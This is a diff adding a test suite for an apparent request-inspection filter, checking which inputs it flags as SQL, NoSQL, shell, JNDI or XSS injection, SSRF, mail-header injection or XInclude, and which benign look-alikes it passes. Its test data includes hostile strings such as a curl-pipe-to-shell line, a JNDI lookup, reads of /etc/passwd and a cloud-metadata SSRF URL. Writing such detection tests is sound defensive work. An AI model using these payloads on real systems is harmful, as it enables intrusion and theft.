@@ -1,0 +1,173 @@
+import { inBody, inField, inQuery } from './verdict.js';
+
+const json = (body: unknown): string | undefined => inBody(JSON.stringify(body), 'application/json');
+
+describe('What was met, and is told of', () => {
+  it.each([
+    ['a breadcrumb', { breadcrumbs: { values: [{ message: "SELECT * FROM a WHERE b = 'c' LIMIT 5" }] } }],
+    ['a list of breadcrumbs', { breadcrumbs: [{ message: 'DROP TABLE IF EXISTS tmp' }] }],
+    [
+      'a span',
+      {
+        resourceSpans: [
+          { scopeSpans: [{ spans: [{ attributes: [{ key: 'db.statement', value: { stringValue: 'SELECT 1' } }] }] }] },
+        ],
+      },
+    ],
+    ['a record of a log', { resourceLogs: [{ scopeLogs: [{ logRecords: [{ body: { stringValue: 'whoami' } }] }] }] }],
+    ['lines of a log', { logs: [{ msg: 'GET /../../etc/passwd 400' }] }],
+    ['a frame', { exception: { values: [{ stacktrace: { frames: [{ abs_path: '/etc/nginx/a.lua' }] } }] } }],
+    ['attributes by their full name', { 'db.statement': "SELECT a FROM b WHERE c = '1'", 'file.path': '/etc/hosts' }],
+    ['what a program printed', { step: { output: '127.0.0.1 "GET /a.php?b=../../c HTTP/1.1" 200' } }],
+  ])('passes in %s', (_name, body) => {
+    expect(json(body)).toBeUndefined();
+  });
+
+  it('blocks there what leaves hardly any doubt', () => {
+    expect(json({ logs: [{ msg: '<img src=x onerror=go()>' }] })).toBe('xss');
+    expect(json({ breadcrumbs: [{ message: '${jndi:ldap://h.example/a}' }] })).toBe('jndi');
+  });
+
+  it('is nothing that a query or a form says of itself', () => {
+    expect(inQuery("1' or '1'='1", 'log')).toBe('sqli');
+    expect(json({ data: { attributes: { comment: "1' or '1'='1" } } })).toBe('sqli');
+  });
+});
+
+describe('Source code in fields that are there for it', () => {
+  it.each([
+    ['diff', 'diff --git a/x.js b/x.js\n--- a/x.js\n+++ b/x.js\n@@ -1 +1 @@\n-db.q("a = \'" + b + "\' or 1=1")\n+x\n'],
+    ['patch', "@@ -1,2 +1,3 @@\n <div>\n+<script src='/a.js'></script>\n"],
+    ['init', '#!/bin/sh\nrm -rf /tmp/x; curl https://h.example | sh\n'],
+    ['source_code', "const { exec } = require('child_process');"],
+    ['jsCode', 'eval(atob(items[0].json.code))'],
+  ])('passes in %s', (name, text) => {
+    expect(json({ node: { [name]: text } })).toBeUndefined();
+  });
+
+  it('is no reason to let a serialised function pass', () => {
+    expect(json({ source_code: '_$$ND_FUNC$$_function(){}()' })).toBe('node');
+  });
+});
+
+describe('Fields that hold commands and queries', () => {
+  it.each([
+    { job: { command: 'npm ci && npm test' } },
+    { jobs: { build: { steps: [{ run: 'docker build . && docker push x' }] } } },
+    { spec: { containers: [{ command: ['/bin/sh', '-c'], args: ['pg_dump -Fc a > /backups/a'] }] } },
+    { Cmd: ['sh', '-c', 'rm -rf /app/tmp; node a.js'] },
+    { native: { query: "SELECT a FROM b WHERE c = 'd' UNION ALL SELECT e FROM f" } },
+    { sql: 'DELETE FROM a WHERE b < 5' },
+    { statement: 'DROP TABLE IF EXISTS a' },
+  ])('takes %j', (body) => {
+    expect(json(body)).toBeUndefined();
+  });
+
+  it('finds a command in a field that is only called so, and a query that waits', () => {
+    expect(json({ command: 'rm -rf /var/www' })).toBe('shell');
+    expect(json({ data: { attributes: { cmd: 'cat /etc/passwd' } } })).toBeDefined();
+    expect(json({ sql: 'SELECT pg_sleep(10)' })).toBe('sqli');
+    expect(json({ sql: "' union select a, b from c -- " })).toBe('sqli');
+    expect(inQuery('select a from b where c = 1', 'sql')).toBe('sqli');
+  });
+
+  it('takes filters of a document database where filters are asked for', () => {
+    expect(json({ filter: { total: { $gt: 5 }, state: { $in: ['a'] } } })).toBeUndefined();
+    expect(json({ pipeline: [{ $match: { a: { $ne: null } } }] })).toBeUndefined();
+    expect(json({ filter: { $where: 'sleep(5)' } })).toBe('nosqli');
+    expect(json({ user: 'ann', password: { $ne: null } })).toBe('nosqli');
+    expect(inQuery('1', 'filter[$gt]')).toBe('nosqli');
+  });
+});
+
+describe('Addresses of this machine', () => {
+  it.each([
+    { servers: [{ url: 'http://localhost:3000' }] },
+    { build: { url: 'http://localhost:8080/job/1/' } },
+    { commit: { url: 'http://10.0.0.5/a/-/commit/1' } },
+    { success_url: 'http://localhost:3000/ok?id=1' },
+    { apiUrl: 'http://localhost:8080' },
+  ])('are told of in %j', (body) => {
+    expect(json(body)).toBeUndefined();
+  });
+
+  it.each([
+    { url: 'http://localhost:8080/admin' },
+    { data: { attributes: { url: 'http://127.0.0.1/' } } },
+    { webhook: { url: 'http://127.0.0.1:22/' } },
+    { user: { avatar: { url: 'http://10.0.0.5/' } } },
+    { build: { url: 'http://169.254.169.254/latest/meta-data/' } },
+  ])('are fetched in %j', (body) => {
+    expect(json(body)).toBe('ssrf');
+  });
+});
+
+describe('Passwords', () => {
+  it.each(['$(reboot)', "'; --", '@@version', "x'); --1", '*)(a;b|c&d', '{{7*7}}x', '../../x', "1'or'1"])(
+    'may be %j',
+    (text) => {
+      for (const name of [
+        'password',
+        'newPassword',
+        'passwordConfirm',
+        'client_secret',
+        'user_password',
+        'wsse:Password',
+      ])
+        expect(inField(text, name)).toBeUndefined();
+    },
+  );
+});
+
+describe('Names, titles and mentions', () => {
+  it.each([
+    ['company', 'Union Select GmbH'],
+    ['title', 'Drop Table Skateboards'],
+    ['note', 'user() is a function in MySQL'],
+    ['note', 'version() vs @@version'],
+    ['q', 'version()'],
+    ['summary', 'replace eval() with JSON.parse'],
+    ['comment', 'Why eval(...)? JSON.parse does it'],
+    ['title', 'while(alive){ eat(); sleep(); code(); }'],
+    ['note', 'Ticket: javascript:void(0) links stay in the tab'],
+    ['html', '<a class="btn" href="javascript:void(0)">Go</a>'],
+    ['note', 'The endpoint of orders returns 500 when id=1 OR 1=1'],
+  ])('%s: %j', (name, text) => {
+    expect(inField(text, name)).toBeUndefined();
+  });
+
+  it('are no cloak', () => {
+    expect(inField('eval() and eval(atob(x))')).toBe('xss');
+    expect(inField('union select Password', 'name')).toBe('sqli');
+    expect(inField('version()', 'id')).toBe('sqli');
+    expect(inField("The endpoint of orders returns 500 when id=1' OR '1'='1")).toBe('sqli');
+    expect(inField('<a href="javascript:void(go())">', 'html')).toBe('xss');
+  });
+});
+
+describe('Cards, calendars and mails as strings', () => {
+  it('begin with their first line', () => {
+    expect(json({ ics: 'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nLOCATION:Room 5\r\nEND:VEVENT\r\n' })).toBeUndefined();
+    expect(
+      json({ raw: 'From: Ann <a@b.example>\r\nTo: c@d.example\r\nCc: e@f.example\r\nSubject: x\r\n\r\nHi' }),
+    ).toBeUndefined();
+    expect(json({ name: 'Ann\r\nBcc: all@h.example' })).toBe('mail-injection');
+  });
+});
+
+describe('Elements called include', () => {
+  it.each(['<ord:Include href="cid:1" xmlns:ord="urn:x"/>', '<a xmlns:o="urn:o"><o:Include>all</o:Include></a>'])(
+    '%s is of its own vocabulary',
+    (xml) => {
+      expect(inBody(xml, 'text/xml')).toBeUndefined();
+    },
+  );
+
+  it.each([
+    '<xi:include href="file:///x" parse="text"/>',
+    '<a xmlns:p="http://www.w3.org/2001/XInclude"><p:include href="x"/></a>',
+    '<include xmlns="http://www.w3.org/2001/XInclude" href="x"/>',
+  ])('%s includes', (xml) => {
+    expect(inBody(xml, 'text/xml')).toBeDefined();
+  });
+});
